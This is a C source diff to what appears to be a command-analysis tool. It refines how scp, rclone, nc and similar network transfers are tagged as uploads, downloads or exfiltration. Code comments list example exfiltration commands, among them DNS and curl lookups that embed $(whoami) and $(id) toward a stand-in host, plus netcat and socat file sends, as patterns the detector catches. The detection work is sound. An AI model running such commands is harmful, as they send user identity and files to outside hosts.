@@ -229,14 +229,17 @@ wk_h_remote_copy(struct an *an)
 			wk_add_target(an->w, an->ci, a->pos[k], EFF_READ);
 		return;
 	}
-	wk_sig(x, an->ci, "prog-transfer");
 	if (up) {
+		wk_sig(x, an->ci, "prog-transfer");
+		wk_sig(x, an->ci, "upload");
 		intent_add_effect(x, an->ci, EFF_UPLOAD);
 		for (size_t k = 0; k + 1 < a->npos; k++)
 			if (!remote_spec(a->pos[k], &h, &hn))
 				wk_add_target(an->w, an->ci, a->pos[k], EFF_READ);
 		wk_check_exfil(an);
 	} else {
+		/* scp HOST:FILE .: a copy from another machine is a download */
+		wk_sig(x, an->ci, "download");
 		intent_add_effect(x, an->ci, EFF_DOWNLOAD);
 		if (!remote_spec(a->pos[a->npos - 1], &h, &hn))
 			wk_add_target(an->w, an->ci, a->pos[a->npos - 1], EFF_WRITE);
@@ -350,7 +353,7 @@ wk_net_analysis(struct an *an)
 	const struct args *a = an->a;
 	uint64_t cls = an->pg != NULL ? an->pg->classes : 0;
 	bool listen = false, all = false, up;
-	int sends;
+	int sends, xfer;
 
 	for (size_t k = 0; k < a->nall; k++)
 		if (is_url(a->all[k].s, a->all[k].n))
@@ -360,6 +363,7 @@ wk_net_analysis(struct an *an)
 			intent_add_url(x, an->ci, a->inl[k].s, a->inl[k].n);
 	if (an->pg == NULL)
 		return;
+	wk_net_exfil(an); /* netexfil.c: nslookup $(whoami).x.com, curl https://x.com/$(id) */
 	if (an->pg->hostfirst && a->npos > 0) {
 		const char *h;
 		size_t hn;
@@ -393,6 +397,13 @@ wk_net_analysis(struct an *an)
 	}
 	sends = upload_opts(an);
 	up = sends == 2;
+	xfer = wk_transfer(an); /* transfer.c: rclone copy, aws s3 cp, restic backup -r rest:... */
+	if (xfer == 0)
+		xfer = wk_net_send(an); /* netsend.c: whois -h, finger @, lp -h, socat FILE TCP, cat f | nc */
+	if (xfer == 2)
+		up = true;
+	else if (xfer == 3 && sends == 0)
+		sends = 1;
 	if (cls & (PCL(NET) | PCL(RAWNET) | PCL(REMOTE) | PCL(TRANSFER) | PCL(MAIL)))
 		for (size_t k = 0; k < a->nall; k++)
 			if (a->all[k].f & RW_FILEREAD) {
@@ -421,7 +432,7 @@ wk_net_analysis(struct an *an)
 		/* a JSON body, -X POST: a request, no local file goes out */
 		intent_add_effect(x, an->ci, EFF_NETWORK);
 		wk_sig(x, an->ci, sends == 3 ? "net-delete" : "net-send");
-	} else if (cls & PCL(DOWNLOAD)) {
+	} else if ((cls & PCL(DOWNLOAD)) || xfer == 4) {
 		if (wk_cmd(an)->nhosts > 0 || a->npos > 0) {
 			intent_add_effect(x, an->ci, EFF_DOWNLOAD);
 			wk_sig(x, an->ci, "download");
